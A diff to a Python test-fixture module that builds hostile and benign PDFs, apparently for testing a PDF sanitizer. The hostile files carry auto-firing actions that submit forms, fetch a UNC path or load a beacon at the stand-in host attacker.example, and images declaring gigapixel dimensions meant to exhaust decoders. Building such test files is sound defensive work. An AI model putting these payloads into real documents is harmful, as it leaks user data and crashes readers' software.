@@ -12,10 +12,12 @@ that each file is broken in exactly one way.
 from __future__ import annotations
 
 import io
+import struct
 import zipfile
 import zlib
 from collections.abc import Iterable, Sequence
 from pathlib import Path
+from typing import Any
 
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import (
@@ -24,6 +26,7 @@ from pypdf.generic import (
     DictionaryObject,
     FloatObject,
     NameObject,
+    NullObject,
     NumberObject,
     TextStringObject,
 )
@@ -275,6 +278,379 @@ def make_xfa_pdf(path: Path) -> Path:
         }
     )
     return _write(writer, path)
+
+
+UNC_PATH = "\\\\attacker.example\\share\\x.pdf"
+
+# One hostile file per action kind (dockets/pdf/actions.py): each fires
+# without a click, or reaches outside the document when clicked.
+HOSTILE_ACTIONS = (
+    "open_gotor",
+    "open_gotoe",
+    "open_importdata",
+    "open_submitform",
+    "open_resetform",
+    "open_hide",
+    "open_named_print",
+    "open_uri",
+    "open_goto_next_uri",
+    "document_aa_uri",
+    "page_aa_gotor",
+    "annotation_aa_uri",
+    "field_aa_submitform",
+    "link_gotor",
+    "link_importdata",
+    "link_named_print",
+    "link_unc_uri",
+    "link_file_uri",
+)
+# Files that do only what Word, Acrobat and browsers write: open at a page,
+# move within the document, link to a web page.
+BENIGN_ACTIONS = (
+    "open_destination",
+    "open_goto",
+    "link_https",
+    "link_goto",
+    "link_named_next",
+)
+
+
+def _action(kind: str, **entries: Any) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        if isinstance(value, str):
+            value = (
+                NameObject(value) if value.startswith("/") else TextStringObject(value)
+            )
+        action[NameObject("/" + key)] = value
+    return action
+
+
+def make_action_pdf(path: Path, kind: str, *, text: str = DEFAULT_TEXT) -> Path:
+    """Write a two-page text PDF carrying one action of `kind`.
+
+    `kind` is one of HOSTILE_ACTIONS or BENIGN_ACTIONS: "open_*" is the
+    catalog's /OpenAction, "*_aa_*" an /AA entry, "link_*" a link annotation's
+    /A (run by a click).
+    """
+    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes(pages=2, text=text)))
+    root = writer._root_object
+    page = writer.pages[0]
+    second = writer.pages[1].indirect_reference
+    fit = ArrayObject([second, NameObject("/Fit")])
+    remote = TextStringObject(UNC_PATH)
+    actions = {
+        "gotor": lambda: _action(
+            "/GoToR", F=remote, D=ArrayObject([NumberObject(0), NameObject("/Fit")])
+        ),
+        "gotoe": lambda: _action("/GoToE", F=remote, D=TextStringObject("x")),
+        "importdata": lambda: _action("/ImportData", F=remote),
+        "submitform": lambda: _action(
+            "/SubmitForm", F=TextStringObject("https://attacker.example/collect")
+        ),
+        "resetform": lambda: _action("/ResetForm"),
+        "hide": lambda: _action("/Hide", T=TextStringObject("debtor_name")),
+        "named_print": lambda: _action("/Named", N="/Print"),
+        "named_next": lambda: _action("/Named", N="/NextPage"),
+        "uri": lambda: _action(
+            "/URI", URI=TextStringObject("https://attacker.example/beacon.gif")
+        ),
+        "unc_uri": lambda: _action("/URI", URI=remote),
+        "file_uri": lambda: _action(
+            "/URI", URI=TextStringObject("file://attacker.example/share/x.pdf")
+        ),
+        "https": lambda: _action(
+            "/URI",
+            URI=TextStringObject("https://www.law.cornell.edu/uscode/text/11/362"),
+        ),
+        "goto": lambda: _action("/GoTo", D=fit),
+    }
+    place, _, what = kind.partition("_")
+    if kind == "open_destination":
+        root[NameObject("/OpenAction")] = ArrayObject(
+            [page.indirect_reference, NameObject("/XYZ"), *(NullObject(),) * 3]
+        )
+    elif kind == "open_goto_next_uri":
+        goto = actions["goto"]()
+        goto[NameObject("/Next")] = actions["uri"]()
+        root[NameObject("/OpenAction")] = goto
+    elif place == "open":
+        root[NameObject("/OpenAction")] = actions[what]()
+    elif kind == "document_aa_uri":
+        root[NameObject("/AA")] = DictionaryObject(
+            {NameObject("/WC"): actions["uri"]()}
+        )
+    elif kind == "page_aa_gotor":
+        page[NameObject("/AA")] = DictionaryObject(
+            {NameObject("/O"): actions["gotor"]()}
+        )
+    elif kind == "annotation_aa_uri":
+        _add_annotation(
+            writer,
+            page,
+            {
+                "/Subtype": NameObject("/Link"),
+                "/AA": DictionaryObject({NameObject("/PV"): actions["uri"]()}),
+            },
+        )
+    elif kind == "field_aa_submitform":
+        _add_annotation(
+            writer,
+            page,
+            {
+                "/Subtype": NameObject("/Widget"),
+                "/FT": NameObject("/Tx"),
+                "/T": TextStringObject("debtor_name"),
+                "/AA": DictionaryObject({NameObject("/Fo"): actions["submitform"]()}),
+            },
+        )
+    elif place == "link":
+        _add_annotation(
+            writer, page, {"/Subtype": NameObject("/Link"), "/A": actions[what]()}
+        )
+    else:
+        raise ValueError(kind)
+    return _write(writer, path)
+
+
+IMAGE_CODECS = ("/JBIG2Decode", "/DCTDecode", "/JPXDecode", "/CCITTFaxDecode")
+
+
+def make_codec_content_pdf(path: Path, codec: str = "/DCTDecode") -> Path:
+    """Write a PDF whose page content stream claims an image codec as its filter."""
+    data = jpeg_header(60_000, 60_000) if codec == "/DCTDecode" else b"\x00" * 64
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
+        stream_object(data, b"/Filter %s " % codec.encode()),
+    ]
+    path.write_bytes(assemble_pdf(objects))
+    return path
+
+
+def jpeg_header(width: int, height: int, components: int = 3) -> bytes:
+    """The start of a JPEG: SOI, an APP0 segment, and a baseline frame header."""
+    frame = struct.pack(">BHHB", 8, height, width, components)
+    frame += b"".join(bytes([i + 1, 0x11, 0]) for i in range(components))
+    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    return (
+        b"\xff\xd8"
+        + b"\xff\xe0"
+        + struct.pack(">H", len(app0) + 2)
+        + app0
+        + b"\xff\xc0"
+        + struct.pack(">H", len(frame) + 2)
+        + frame
+        + b"\xff\xd9"
+    )
+
+
+def jpx_codestream(width: int, height: int, components: int = 3) -> bytes:
+    """The start of a JPEG 2000 codestream: SOC and a SIZ marker."""
+    siz = struct.pack(
+        ">HIIIIIIIIH", 0, width, height, 0, 0, width, height, 0, 0, components
+    )
+    siz += b"\x07\x01\x01" * components
+    return b"\xff\x4f\xff\x51" + struct.pack(">H", len(siz) + 2) + siz + b"\xff\xd9"
+
+
+def jbig2_segment(number: int, kind: int, body: bytes, *, page: int = 1) -> bytes:
+    """One JBIG2 segment (embedded format): header, then `body`."""
+    return struct.pack(">IBBBI", number, kind, 0, page, len(body)) + body
+
+
+def jbig2_page_info(width: int, height: int) -> bytes:
+    return jbig2_segment(0, 48, struct.pack(">IIIIBH", width, height, 0, 0, 0, 0))
+
+
+def jbig2_region(width: int, height: int, number: int = 1) -> bytes:
+    """An immediate generic region segment's header: region information only."""
+    return jbig2_segment(
+        number, 38, struct.pack(">IIIIB", width, height, 0, 0, 0) + b"\x00"
+    )
+
+
+def jbig2_symbol_dictionary(symbols: int) -> bytes:
+    """A symbol dictionary (generic template 0) declaring `symbols` symbols."""
+    body = struct.pack(">H", 0) + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe"
+    body += struct.pack(">II", symbols, symbols)
+    return jbig2_segment(0, 0, body, page=0)
+
+
+HOSTILE_IMAGES = (
+    "real_width",
+    "too_many_samples",
+    "jpeg_gigapixel",
+    "jpx_gigapixel",
+    "jp2_gigapixel",
+    "jbig2_page_gigapixel",
+    "jbig2_region_gigapixel",
+    "jbig2_globals_symbols",
+    "jbig2_globals_gigapixel",
+    "ccitt_columns",
+    "flate_wrapped_jpx_gigapixel",
+)
+
+
+def make_image_pdf(path: Path, kind: str) -> Path:
+    """Write a one-page PDF with one small-looking image that declares a huge one.
+
+    `kind` is one of HOSTILE_IMAGES; the image dictionary itself says 10 x 10
+    unless the kind is about the dictionary.
+    """
+    width, height, space = b"10", b"10", b"/DeviceGray"
+    extra = b""
+    globals_body = None
+    data = b"\x00" * 16
+    codec = b""
+    if kind == "real_width":
+        width = b"100.5"
+    elif kind == "too_many_samples":
+        width, height = b"20000", b"10000"
+        space = b"[/DeviceN [/A /B /C /D /E /F /G /H] /DeviceCMYK 9 0 R]"
+    elif kind == "jpeg_gigapixel":
+        codec, data = b"/DCTDecode", jpeg_header(60_000, 60_000)
+    elif kind == "jpx_gigapixel":
+        codec, data = b"/JPXDecode", jpx_codestream(100_000, 100_000)
+    elif kind == "jp2_gigapixel":
+        ihdr = struct.pack(">IIHBBBB", 100_000, 100_000, 3, 7, 7, 0, 0)
+        jp2h = struct.pack(">I4s", 8 + len(ihdr), b"ihdr") + ihdr
+        data = (
+            b"\x00\x00\x00\x0cjP  \r\n\x87\n"
+            + struct.pack(">I4s", 8 + len(jp2h), b"jp2h")
+            + jp2h
+            + struct.pack(">I4s", 8 + 60, b"jp2c")
+            + jpx_codestream(10, 10)[:60]
+        )
+        codec = b"/JPXDecode"
+    elif kind == "jbig2_page_gigapixel":
+        codec, data = b"/JBIG2Decode", jbig2_page_info(100_000, 100_000)
+    elif kind == "jbig2_region_gigapixel":
+        codec = b"/JBIG2Decode"
+        data = jbig2_page_info(10, 10) + jbig2_region(100_000, 100_000)
+    elif kind in ("jbig2_globals_symbols", "jbig2_globals_gigapixel"):
+        codec = b"/JBIG2Decode"
+        data = jbig2_page_info(10, 10) + jbig2_region(10, 10)
+        globals_body = (
+            jbig2_symbol_dictionary(2_000_000_000)
+            if kind == "jbig2_globals_symbols"
+            else jbig2_region(100_000, 100_000)
+        )
+        extra = b"/DecodeParms << /JBIG2Globals 5 0 R >> "
+    elif kind == "ccitt_columns":
+        codec = b"/CCITTFaxDecode"
+        extra = b"/DecodeParms << /K -1 /Columns 1000000 /Rows 100000 >> "
+    elif kind == "flate_wrapped_jpx_gigapixel":
+        codec, data = (
+            b"[/FlateDecode /JPXDecode]",
+            zlib.compress(jpx_codestream(100_000, 100_000)),
+        )
+    else:
+        raise ValueError(kind)
+    entries = (
+        b"/Type /XObject /Subtype /Image /Width %s /Height %s /BitsPerComponent 8 "
+        b"/ColorSpace %s " % (width, height, space)
+    )
+    if codec:
+        entries += b"/Filter %s " % codec
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
+        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 6 0 R >>",
+        stream_object(data, entries + extra),
+        stream_object(globals_body or b""),
+        stream_object(b"q 100 0 0 100 72 600 cm /Im1 Do Q"),
+        b"null",
+        b"null",
+        b"<< /FunctionType 2 /Domain [0 1] /N 1 >>",
+    ]
+    path.write_bytes(assemble_pdf(objects))
+    return path
+
+
+def make_inline_image_pdf(
+    path: Path,
+    *,
+    width: bytes = b"100000",
+    height: bytes = b"100000",
+    flate: bool = True,
+    in_form: bool = False,
+) -> Path:
+    """Write a PDF whose page (or a form it draws) holds one inline image
+    declaring `width` x `height` grey pixels (with 4 bytes of data)."""
+    content = (
+        b"q 100 0 0 100 72 600 cm BI /W %s /H %s /CS /G /BPC 8 ID \x00\x00\x00\x00 EI Q"
+        % (width, height)
+    )
+    entries = b""
+    if flate:
+        content, entries = zlib.compress(content), b"/Filter /FlateDecode "
+    page_content = stream_object(content, entries)
+    resources = b""
+    if in_form:
+        page_content = stream_object(b"q /Fm1 Do Q")
+        resources = b" /Resources << /XObject << /Fm1 5 0 R >> >>"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R%s >>"
+        % resources,
+        page_content,
+        stream_object(
+            content, entries + b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
+        ),
+    ]
+    path.write_bytes(assemble_pdf(objects))
+    return path
+
+
+def make_photo_pdf(path: Path, *, codec: str = "jpeg") -> Path:
+    """Write a PDF with a real photo, as a scanner or phone app would: JPEG or JPEG 2000."""
+    from PIL import Image
+
+    image = Image.new("RGB", (640, 480), (200, 180, 150))
+    for x in range(0, 640, 8):
+        image.putpixel((x, x % 480), (10, 20, 30))
+    encoded = io.BytesIO()
+    image.save(encoded, format="JPEG" if codec == "jpeg" else "JPEG2000")
+    name = b"/DCTDecode" if codec == "jpeg" else b"/JPXDecode"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
+        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>",
+        stream_object(
+            encoded.getvalue(),
+            b"/Type /XObject /Subtype /Image /Width 640 /Height 480 "
+            b"/BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter %s " % name,
+        ),
+        stream_object(b"q 612 0 0 459 0 166 cm /Im1 Do Q"),
+    ]
+    path.write_bytes(assemble_pdf(objects))
+    return path
+
+
+def make_jbig2_scan_pdf(path: Path) -> Path:
+    """Write a PDF with a letter-size 300 dpi JBIG2 page header, as scanners write."""
+    data = jbig2_page_info(2550, 3300) + jbig2_region(2550, 3300)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
+        b" /Resources << /XObject << /Im1 4 0 R >> >> /Contents 6 0 R >>",
+        stream_object(
+            data,
+            b"/Type /XObject /Subtype /Image /Width 2550 /Height 3300 "
+            b"/BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode "
+            b"/DecodeParms << /JBIG2Globals 5 0 R >> ",
+        ),
+        stream_object(jbig2_symbol_dictionary(1200)),
+        stream_object(b"q 612 0 0 792 0 0 cm /Im1 Do Q"),
+    ]
+    path.write_bytes(assemble_pdf(objects))
+    return path
 
 
 def make_empty_pdf(path: Path) -> Path:
